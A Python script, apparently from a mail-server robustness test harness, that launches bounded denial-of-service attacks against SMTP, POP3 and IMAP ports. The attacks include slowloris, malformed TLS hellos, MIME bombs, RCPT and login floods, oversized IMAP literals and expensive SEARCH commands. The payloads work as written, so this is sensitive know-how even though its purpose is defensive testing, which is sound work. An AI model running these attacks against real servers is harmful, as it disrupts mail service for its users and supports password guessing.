"""The attacks. As a program: attacks.py NAME SERVER PORT_OFFSET; says "ready" once it is in full swing and ends when its
input does. Everything is bounded: connections, octets and rounds."""
import itertools
import os
import random
import select
import socket
import ssl
import sys
import threading
import time

BOTS = [f"192.0.2.{number}" for number in range(101, 201)]
SMTP, SUBMISSION, SUBMISSIONS, POP3, POP3S, IMAP, IMAPS = 25, 587, 465, 110, 995, 143, 993
PORTS = (SMTP, SUBMISSION, SUBMISSIONS, POP3, POP3S, IMAP, IMAPS)
VICTIM, PASSWORD = "alice@example.test", "correct horse battery staple"
ATTACKER = "mallory@example.test"
SECONDS_MAX = 120


def leave_processor():
    """The server goes first. At idle priority alone a thread that has waited keeps the processor until the next tick of the
    clock, 4 ms, and whoever wakes up waits for that: in the field the attacker's processors are not the server's."""
    os.sched_yield()


class Attack:
    def __init__(self, server, offset):
        self.server, self.offset = server, offset
        self.sockets = []
        self.ended = threading.Event()
        self.next_bot = 0

    def connect(self, port):
        """A connection from the next machine; None if it was turned away."""
        bot = BOTS[self.next_bot % len(BOTS)]
        self.next_bot += 1
        one = socket.socket()
        one.settimeout(5)
        try:
            one.bind((bot, 0))
            one.connect((self.server, self.offset + port))
        except OSError:
            one.close()
            return None
        self.sockets.append(one)
        return one

    def drop(self, one):
        self.sockets.remove(one)
        one.close()

    def until_ended(self, work):
        """Runs work() again and again on a thread."""

        def loop():
            end = time.monotonic() + SECONDS_MAX
            while not self.ended.is_set() and time.monotonic() < end:
                work()
                leave_processor()

        thread = threading.Thread(target=loop, daemon=True)
        thread.start()
        return thread


def expect(one, *beginnings):
    """Reads until a line begins with one of these; that line, or b"" if the connection ended. Quick, because what this
    program computes the server cannot."""
    held = b"\n"
    while True:
        for beginning in beginnings:
            at = held.find(b"\n" + beginning)
            end = held.find(b"\r\n", at + 1)
            if at != -1 and end != -1:
                return held[at + 1:end]
        piece = one.recv(65536)
        leave_processor()
        if not piece:
            return b""
        held = held[held.rfind(b"\n"):] + piece


def drain(one):
    """Takes what there is to read, without waiting."""
    while select.select([one], [], [], 0)[0] and one.recv(1 << 20):
        pass


def silent(attack):
    for number in range(10_000):
        attack.connect(PORTS[number % len(PORTS)])


def slowloris(attack):
    lines = {SMTP: b"EHLO ", SUBMISSION: b"EHLO ", POP3: b"USER ", IMAP: b"a LOGIN "}
    hello = b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(500)
    talkers = []
    for number in range(700):
        port = PORTS[number % len(PORTS)]
        if one := attack.connect(port):
            talkers.append([one, lines.get(port, hello) + b"x" * 400, 0])

    def say_a_little():
        for talker in talkers:
            one, text, at = talker
            talker[2] = at + 1
            try:
                one.send(text[at % len(text):at % len(text) + 1])
            except OSError:
                pass
        attack.ended.wait(0.2)

    attack.until_ended(say_a_little)


def client_hello():
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    try:
        ssl.create_default_context().wrap_bio(incoming, outgoing, server_hostname="mail.example.test").do_handshake()
    except ssl.SSLWantReadError:
        pass
    return outgoing.read()


def tls_junk(attack):
    hello = client_hello()
    noise = random.Random(1)

    def round_of_junk():
        for number in range(50):
            one = attack.connect((SUBMISSIONS, POP3S, IMAPS)[number % 3])
            if one is None:
                continue
            try:
                one.send((noise.randbytes(512), hello[:100], hello, hello + noise.randbytes(300))[number % 4])
            except OSError:
                pass
        while len(attack.sockets) > 2000:
            attack.drop(attack.sockets[0])
        attack.ended.wait(0.2)

    for _ in range(10):
        round_of_junk()
    attack.until_ended(round_of_junk)


def begin_message(one):
    """True if the server wants the message."""
    expect(one, b"220 ")
    one.sendall(f"EHLO bot\r\nMAIL FROM:<bot@bots.test>\r\nRCPT TO:<{VICTIM}>\r\nDATA\r\n".encode())
    return expect(one, b"354", b"4", b"503", b"554").startswith(b"354")


def data_held(attack):
    body = b"Subject: wait\r\n\r\n" + b"y" * 70 + b"\r\n" * 2 + (os.urandom(50).hex().encode() + b"\r\n") * 10_000
    for number in range(2000):
        one = attack.connect(SMTP)
        if one is None:
            continue
        try:
            if begin_message(one):
                one.sendall(body[: 1_000_000 if number % 4 == 0 else 200_000])
        except OSError:
            pass


def mime_bombs():
    head = b"From: bot@bots.test\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n"
    yield head + b"--b\r\nContent-Type: text/plain; name=x\r\n\r\nx\r\n" * 100_000 + b"--b--\r\n"
    nested = b"From: bot@bots.test\r\n"
    for level in range(1000):
        nested += b"Content-Type: multipart/mixed; boundary=b%d\r\n\r\n--b%d\r\n" % (level, level)
    yield nested + b"\r\nx\r\n"
    yield b"".join(b"X-%d: %s\r\n" % (number, b"v" * 60) for number in range(100_000)) + b"\r\nx\r\n"
    yield b"From: " + b"a@b.test, " * 200_000 + b"\r\n\r\nx\r\n"
    yield b"Content-Type: message/rfc822\r\n\r\n" * 30_000 + b"x\r\n"


def mime_bomb(attack):
    bombs = list(mime_bombs())

    def throw():
        for bomb in bombs:
            one = attack.connect(SMTP)
            if one is None:
                continue
            one.settimeout(60)
            try:
                if begin_message(one):
                    one.sendall(bomb + b".\r\n")
                    expect(one, b"2", b"4", b"5")
            except OSError:
                pass
            attack.drop(one)
            if attack.ended.is_set():
                return

    throw()
    attack.until_ended(throw)


def rcpt_flood(attack):
    flood = f"RCPT TO:<{VICTIM}>\r\n".encode() * 1000

    def send_all():
        one = attack.connect(SMTP)
        if one is None:
            return
        try:
            expect(one, b"220 ")
            one.sendall(b"EHLO bot\r\nMAIL FROM:<bot@bots.test>\r\n")
            for _ in range(200):
                if attack.ended.is_set():
                    break
                drain(one)
                one.sendall(flood)
        except OSError:
            pass  # thrown out: that is what should happen
        attack.drop(one)

    for _ in range(5):
        attack.until_ended(send_all)


def literals(attack):
    for number in range(700):
        one = attack.connect(IMAP)
        if one is None:
            continue
        try:
            one.sendall((b"a LOGIN {4000000000}\r\n", b"a LOGIN {4000+}\r\n" + b"x" * 3999,
                         b"a APPEND INBOX {4000000000+}\r\n" + b"x" * 60_000,
                         b"a LOGIN " + b"{10+}\r\n0123456789 " * 3000)[number % 4])
        except OSError:
            pass


def login_flood(attack):
    """Wrong passwords of names that are there and names that are not, faster than they can be checked."""
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    numbers = itertools.count()

    def guess():
        if len(attack.sockets) > 2000:
            attack.drop(attack.sockets[0])
        one = attack.connect(IMAPS)
        if one is None:
            return
        number = next(numbers)
        name = VICTIM if number % 10 == 0 else f"user{number}@example.test"
        try:
            attack.sockets.remove(one)
            one = context.wrap_socket(one)
            attack.sockets.append(one)
            one.sendall(f"a LOGIN {name} wrong{number}\r\n".encode())  # and does not wait for the answer
        except OSError:
            one.close()

    for _ in range(200):
        guess()
    attack.until_ended(guess)


def large_mailbox(attack):
    """Commands over all of a mailbox that a user has filled herself."""
    as_a_user(attack, [b"FETCH 1:* (UID FLAGS)", b"STORE 1:* +FLAGS (\\Flagged)", b"STORE 1:* -FLAGS (\\Flagged)",
                       b"SEARCH OR SUBJECT x SINCE 1-Jan-2020", b"NOOP"])


def search(attack):
    as_a_user(attack, [b"SEARCH " + program for program in (
        b"OR " * 900 + b"SEEN " * 900 + b"SEEN",
        b"NOT (" * 60 + b"SUBJECT x" + b")" * 60,
        b"UID " + b",".join(b"%d" % number for number in range(1, 20_000, 2)),
        b"BODY nothing-like-this",
        b" ".join(b"OR (FROM a TO b) (SUBJECT c CC d)" for _ in range(150)),
    )])


def as_a_user(attack, commands):
    """Five sessions of the attacker's own account say these commands again and again."""

    def ask():
        one = attack.connect(IMAP)
        if one is None:
            return
        one.settimeout(60)
        try:
            expect(one, b"* OK")
            one.sendall(b"a STARTTLS\r\n")
            expect(one, b"a OK")
            context = ssl.create_default_context()
            context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
            attack.sockets.remove(one)
            one = context.wrap_socket(one)
            attack.sockets.append(one)
            one.sendall(f'b LOGIN {ATTACKER} "{PASSWORD}"\r\nc SELECT INBOX\r\n'.encode())
            expect(one, b"c OK")
            while not attack.ended.is_set():
                for command in commands:
                    one.sendall(b"d " + command + b"\r\n")
                    if not expect(one, b"d "):
                        return
        except OSError:
            pass

    for _ in range(5):
        attack.until_ended(lambda: (ask(), attack.ended.wait(0.5)))


ATTACKS = {attack.__name__: attack
           for attack in (silent, slowloris, tls_junk, data_held, mime_bomb, rcpt_flood, literals, login_flood, search,
                          large_mailbox)}


def main():
    name, server, offset = sys.argv[1:]
    # In the field it has machines of its own: here it gets what the server and the user leave of the processors.
    os.sched_setscheduler(0, os.SCHED_IDLE, os.sched_param(0))
    attack = Attack(server, int(offset))
    ATTACKS[name](attack)
    print("ready", flush=True)
    sys.stdin.read()
    attack.ended.set()


if __name__ == "__main__":
    main()
